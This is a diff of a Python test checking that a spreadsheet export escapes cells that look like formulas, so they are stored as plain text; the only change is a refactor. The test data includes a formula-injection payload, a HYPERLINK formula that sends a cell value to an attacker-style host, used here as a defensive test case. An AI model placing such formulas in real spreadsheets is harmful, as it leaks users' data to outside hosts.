@@ -18,7 +18,7 @@ def test_exported_text_that_looks_like_a_formula_stays_text():
         rows=[['=HYPERLINK("http://evil.example/?x="&A2,"详情")', 12], ["-1+2", 3], ["普通文字", 4]],
     )
     sheet = load_workbook(io.BytesIO(response.content)).active
-    values = [row for row in sheet.iter_rows(min_row=2, values_only=True)]
+    values = list(sheet.iter_rows(min_row=2, values_only=True))
     assert values[0][0] == '\'=HYPERLINK("http://evil.example/?x="&A2,"详情")'
     assert sheet["A2"].data_type == "s"  # a string, not a formula
     assert values[1][0] == "'-1+2"
